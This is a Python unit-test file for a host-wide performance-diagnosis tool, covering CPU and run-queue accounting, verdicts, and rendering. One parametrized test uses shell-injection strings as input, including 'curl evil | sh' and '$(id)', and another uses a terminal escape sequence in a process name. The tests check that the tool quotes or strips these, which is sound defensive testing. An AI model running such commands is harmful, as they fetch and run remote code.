"""perfdiag host: the model of all tasks, who has most of what and behind whom others wait, verdict and page."""

from __future__ import annotations

import json

import pytest
from perfdiag.common.config import Config
from perfdiag.diagnosis import engine
from perfdiag.diagnosis.evidence.target import again
from perfdiag.model.model import Model
from perfdiag.render import json_document, terminal
from perfdiag.report import assembly
from perfdiag.report.contract import Consumers, Report

from unit.support.hosts import host, process
from unit.support.house import House
from unit.support.recording import Builder


@pytest.mark.parametrize(
    ("asked", "target"),
    [
        ("--pid 7 --name 'a b'", "--pid 7 --name 'a b'"),
        ("-- sleep", "-- sleep"),
        ("--pid 7; curl evil | sh #", "--pid '7;' curl evil '|' sh '#'"),
        ("--pid $(id)", "--pid '$(id)'"),
        ("--name 'open", "--pid 100"),
    ],
)
def test_what_a_recording_says_was_typed_is_words_to_a_shell(asked: str, target: str) -> None:
    assert target in again(Builder(asked=asked).thread(cpu_user="1 s").model())


def made(model: Model) -> Report:
    return assembly.make(model, engine.diagnose(model), Config())


def page(model: Model, *, full: bool = False) -> str:
    return "\n".join(line.plain for line in terminal.lines(made(model), full=full))


def consumers(model: Model, account: str) -> Consumers:
    everyone = made(model).everyone
    assert everyone is not None
    return next(each for each in everyone.consumers if each.account == account)


def busy_host() -> Model:
    """A backup that has the CPUs, a server that waits for them, a disk; one of the server's threads has a row."""
    builder = Builder(window="10 s", comm="nginx", pid=70)
    builder.thread("worker", pid=70, tid=71, cpu_user="1 s", runq_busy="3 s")
    return host(
        builder,
        process(builder, "nginx", 70, threads=3, cpu_user="1 s", runq_busy="1 s"),
        process(builder, "backup", 80, cpu_user="9 s"),
        process(builder, "jbd2/vda1-8", 90, kernel=True, disk_flush="2 s"),
        process(builder, "kworker", 28, threads=5, kernel=True, cpu_user="500 ms"),
        process(builder, "cron", threads=12, cpu_user="250 ms"),
    )


def test_the_books_of_all_close() -> None:
    model = busy_host()
    assert model.coverage.closed_error == 0
    assert model.wall_ns == (1 + 3 + 1 + 1 + 5 + 12) * model.window_ns
    assert model.host and model.host.left_out == 2000


def test_a_thread_with_a_row_counts_for_its_process() -> None:
    queue = consumers(busy_host(), "runq.busy")
    assert [(each.comm, each.pid, each.ns, each.threads) for each in queue.consumers] == [
        ("nginx", 70, 4_000_000_000, 4)
    ]
    assert queue.consumers[0].share == 1


def test_a_kernel_thread_has_no_user_part() -> None:
    model = busy_host()
    assert {each.comm for each in consumers(model, "cpu.kernel").consumers} == {"kworker"}
    assert "kworker" not in {each.comm for each in consumers(model, "cpu.user").consumers}


def test_the_largest_consumer_is_first_and_shares_make_one() -> None:
    for account in ("cpu.user", "disk.flush"):
        found = consumers(busy_host(), account)
        assert [each.ns for each in found.consumers] == sorted((each.ns for each in found.consumers), reverse=True)
        assert sum(each.share for each in found.consumers) == pytest.approx(1)
    assert consumers(busy_host(), "cpu.user").consumers[0].comm == "backup"


def test_idle_accounts_have_no_consumers() -> None:
    everyone = made(busy_host()).everyone
    assert everyone and not {each.account for each in everyone.consumers} & {"wait.events", "wait.parked"}


def waits_behind(*keys: tuple[str, str]) -> Model:
    builder = Builder(window="10 s", comm="nginx", pid=70)
    builder.thread("worker", pid=70, tid=71, cpu_user="1 s")
    for key, time in keys:
        builder.row("runq.busy", key, time, count=100)
    others = [process(builder, "backup", 80, cpu_user="9 s"), process(builder, "kworker/0:1", 90, cpu_user="1 s")]
    kernel = process(builder, "kworker", 28, threads=5, kernel=True, cpu_user="300 ms")
    return host(builder, process(builder, "nginx", 70, threads=1), *others, kernel)


def test_behind_whom_others_wait() -> None:
    model = waits_behind(("own:80:backup", "2 s"), ("own:70:nginx", "1 s"), ("own:31:kworker/1:2", "200 ms"))
    model_keys = {row.key for row in model.rows_of("runq.busy")}
    assert {"task:80:backup", "own:70:nginx", "task:31:kworker/1:2"} == model_keys, "what is another process's is so"
    behind = [(each.comm, each.pid, each.ns) for each in consumers(model, "runq.busy").behind]
    assert behind == [("backup", 80, 2_000_000_000), ("nginx", 70, 1_000_000_000), ("kworker", 28, 200_000_000)]


def test_kernel_threads_are_told_by_their_flag_not_by_a_name_that_anybody_can_take() -> None:
    model = waits_behind(
        ("own:90:kworker/0:1", "2 s"),
        ("own:28:kworker/1:2", "200 ms"),
        ("own:31:kworker/u8:3", "100 ms"),
        ("own:95:php-fpm/7", "50 ms"),
    )
    behind = [(each.comm, each.pid, each.kernel, each.ns) for each in consumers(model, "runq.busy").behind]
    assert behind == [
        ("kworker/0:1", 90, False, 2_000_000_000),
        ("kworker", 28, True, 300_000_000),
        ("php-fpm/7", 95, False, 50_000_000),
    ]


def test_a_host_that_queues_behind_another_process_says_so() -> None:
    model = waits_behind(("own:80:backup", "4 s"))
    verdict = made(model).verdict
    assert verdict.ids == ["CPU-CONTENTION"] and "backup" in verdict.text
    assert "this process" not in verdict.text.lower()
    assert again(model) == "perfdiag host"


def test_a_host_without_a_fault_says_who_is_busy() -> None:
    builder = Builder(window="10 s")
    model = host(builder, process(builder, "backup", 80, cpu_user="1 s"), left_out=0)
    verdict = made(model).verdict
    assert verdict.kind == "profile" and "backup" in verdict.text
    assert not made(model).notes


def test_a_host_on_which_nothing_ran() -> None:
    builder = Builder(window="10 s")
    verdict = made(host(builder)).verdict
    assert (verdict.kind, verdict.text) == ("cannot tell", "Cannot tell: no task of the host ran.")


def test_the_page() -> None:
    text = page(busy_host())
    assert text.startswith("whole host ") and "2,000 threads slept all the time" in text
    assert "backup (80)" in text and "[jbd2/vda1-8] 100 %" in text
    assert "pid 0" not in text
    assert "backup" not in page(Builder().thread("app", cpu_user="1 s").model())


def test_hostile_names_are_harmless() -> None:
    builder = Builder(window="10 s")
    text = page(host(builder, process(builder, "\x1b[31mevil", 5, cpu_user="9 s")), full=True)
    assert "\x1b" not in text and "evil" in text


def test_the_document() -> None:
    parsed = json.loads(json_document.render(made(busy_host())))
    assert parsed["everyone"]["left_out"] == 2000
    assert parsed["target"]["command"] == "perfdiag host"
    first = parsed["everyone"]["consumers"][0]
    assert first["account"] == "cpu.user" and first["consumers"][0]["comm"] == "backup"
    assert (
        parsed["everyone"]["consumers"]
        and json.loads(json_document.render(made(Builder().thread("app", cpu_user="1 s").model()))).get("everyone")
        is None
    )


def test_who_was_not_counted_is_said() -> None:
    builder = Builder(window="10 s")
    model = host(builder, process(builder, "backup", 80, cpu_user="1 s"), left_out=None)
    assert "were not counted" in page(model)


def test_the_orders(house: House) -> None:
    run = house.run("host", "--duration", "100ms")
    assert run.returncode == 0, run.stderr
    assert "recording all tasks of this host, for 100 ms" in run.stderr
    assert house.log()["orders"] == ["host", "duration 100000000", "start"]


def test_what_makes_no_sense(house: House) -> None:
    for arguments in (["--pid", "1"], ["--only"], ["--", "true"], ["--record", "-"]):
        run = house.run("host", *arguments)
        assert run.returncode == 2 and run.stderr.startswith("error: "), arguments
